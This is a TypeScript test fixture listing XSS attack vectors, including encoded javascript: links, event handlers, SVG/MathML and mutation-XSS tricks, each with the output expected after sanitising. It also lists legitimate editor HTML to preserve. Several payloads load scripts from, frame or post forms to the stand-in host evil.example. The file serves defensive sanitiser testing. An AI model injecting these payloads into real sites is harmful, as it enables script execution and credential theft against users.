/**
 * The attacks the rich-text sanitiser is tested against (OWASP's XSS filter evasion cheat
 * sheet, PortSwigger's and DOMPurify's mutation-XSS cases), one per vector the issue names.
 * The server's test checks what sanitize-html leaves of each; the page's test runs the same
 * list through DOMPurify and proves what is left inert in a real browser.
 */
export interface XssVector {
  /** What the attack tries. */
  name: string;
  html: string;
  /** What the server's sanitiser leaves (sanitize-html's serialisation). */
  server: string;
}

/** An image of our own store, as the rich-text editor inserts it after an upload. */
export const OWN_IMAGE = '/api/sys/common/static/jeditor/0123456789abcdef0123456789abcdef.png';

export const XSS_VECTORS: readonly XssVector[] = [
  { name: 'script element', html: '<p>a</p><script>alert(1)</script>', server: '<p>a</p>' },
  { name: 'script with odd casing and attributes', html: '<ScRiPt type="text/javascript" src="https://evil.example/x.js"></sCrIpT><p>b</p>', server: '<p>b</p>' },
  { name: 'event handler on an allowed element', html: '<p onclick="alert(1)" onmouseover="alert(2)">a</p>', server: '<p>a</p>' },
  { name: 'event handler on an image', html: `<img src="${OWN_IMAGE}" onerror="alert(1)" onload="alert(2)">`, server: `<img src="${OWN_IMAGE}" />` },
  { name: 'image without a source of ours fires onerror', html: '<img src=x onerror=alert(1)>', server: '' },
  { name: 'body onload', html: '<body onload="alert(1)"><p>a</p></body>', server: '<p>a</p>' },
  { name: 'javascript: link', html: '<a href="javascript:alert(1)">x</a>', server: '<a rel="noopener noreferrer">x</a>' },
  { name: 'javascript: link in mixed case', html: '<a href="JaVaScRiPt:alert(1)">x</a>', server: '<a rel="noopener noreferrer">x</a>' },
  { name: 'javascript: link with an entity-encoded tab', html: '<a href="java&#x09;script:alert(1)">x</a>', server: '<a rel="noopener noreferrer">x</a>' },
  { name: 'javascript: link with leading spaces and a control character', html: '<a href=" &#14; javascript:alert(1)">x</a>', server: '<a rel="noopener noreferrer">x</a>' },
  { name: 'javascript: link with decimal entities', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', server: '<a rel="noopener noreferrer">x</a>' },
  { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">x</a>', server: '<a rel="noopener noreferrer">x</a>' },
  { name: 'data: link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', server: '<a rel="noopener noreferrer">x</a>' },
  { name: 'data: image', html: '<img src="data:image/png;base64,iVBORw0KGgo=">', server: '' },
  { name: 'data: SVG image', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', server: '' },
  { name: 'image of another site', html: '<img src="https://evil.example/pixel.png">', server: '' },
  { name: 'protocol-relative image', html: '<img src="//evil.example/sys/common/static/x.png">', server: '' },
  { name: 'image on another path of ours', html: '<img src="/api/sys/logout">', server: '' },
  { name: 'image climbing out of the store', html: '<img src="/api/sys/common/static/../../sys/logout">', server: '' },
  { name: 'style expression()', html: '<p style="width: expression(alert(1))">a</p>', server: '<p>a</p>' },
  { name: 'style url(javascript:)', html: '<p style="background-image: url(javascript:alert(1))">a</p>', server: '<p>a</p>' },
  { name: 'style that overlays the page', html: '<div style="position: fixed; inset: 0; z-index: 9999">a</div>', server: '<div>a</div>' },
  { name: 'style element', html: '<style>body{display:none}</style><p>a</p>', server: '<p>a</p>' },
  { name: 'style with -moz-binding', html: '<p style="-moz-binding: url(https://evil.example/x.xml#x)">a</p>', server: '<p>a</p>' },
  { name: 'iframe of a site not allowed', html: '<iframe src="https://evil.example/"></iframe><p>a</p>', server: '<p>a</p>' },
  { name: 'iframe javascript:', html: '<iframe src="javascript:alert(1)"></iframe>', server: '' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', server: '' },
  { name: 'object and embed', html: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">', server: '' },
  { name: 'SVG with script', html: '<svg><script>alert(1)</script></svg><p>a</p>', server: '<p>a</p>' },
  { name: 'SVG onload', html: '<svg onload="alert(1)"><circle r="1"></circle></svg>', server: '' },
  { name: 'SVG animate to a javascript: href', html: '<svg><a><animate attributeName="href" to="javascript:alert(1)"></animate><text>x</text></a></svg>', server: '' },
  { name: 'MathML with a javascript: link', html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', server: '' },
  { name: 'base element', html: '<base href="https://evil.example/"><p>a</p>', server: '<p>a</p>' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>a</p>', server: '<p>a</p>' },
  { name: 'form and its controls', html: '<form action="https://evil.example/"><input name="p" type="password"><button formaction="javascript:alert(1)">go</button></form>', server: 'go' },
  { name: 'link to a stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css"><p>a</p>', server: '<p>a</p>' },
  { name: 'mXSS: noscript around a closing tag in an attribute', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', server: '' },
  { name: 'mXSS: template holding an image', html: '<template><img src=x onerror=alert(1)></template><p>a</p>', server: '<p>a</p>' },
  { name: 'mXSS: math, mglyph and style namespace confusion', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', server: '' },
  { name: 'mXSS: nested forms', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', server: '' },
  { name: 'mXSS: svg inside p with a closing style', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', server: '' },
  { name: 'mXSS: xmp holding markup', html: '<xmp><img src=x onerror=alert(1)></xmp><p>a</p>', server: '<p>a</p>' },
  { name: 'id and data attributes (DOM clobbering)', html: '<p id="location" data-x="1" name="cookie">a</p>', server: '<p>a</p>' },
  { name: 'a class other than a code block\'s language', html: '<p class="modal-open">a</p><code class="language-sql evil">b</code>', server: '<p>a</p><code class="language-sql">b</code>' },
  { name: 'link target other than _blank', html: '<a href="https://example.com/" target="_top" rel="opener">x</a>', server: '<a href="https://example.com/" rel="noopener noreferrer">x</a>' },
];

/** What the sanitisers must keep: the editors' own output. */
export const KEPT_HTML = [
  '<h2>标题</h2><p><strong>粗</strong> <em>斜</em> <u>下</u> <s>删</s></p>',
  '<p><span style="font-size:12pt;color:#ff0000">红色 12pt</span></p>',
  '<p style="text-align:center">居中</p>',
  '<ul><li>一</li></ul><ol start="3"><li>三</li></ol><blockquote>引用</blockquote>',
  '<pre><code class="language-sql">select 1</code></pre>',
  '<table><tbody><tr><td colspan="2">格</td></tr></tbody></table>',
  `<p><img src="${OWN_IMAGE}" alt="图" /></p>`,
  '<p><a href="https://example.com/" target="_blank" rel="noopener noreferrer">外链</a> <a href="/news/1" rel="noopener noreferrer">内链</a></p>',
] as const;
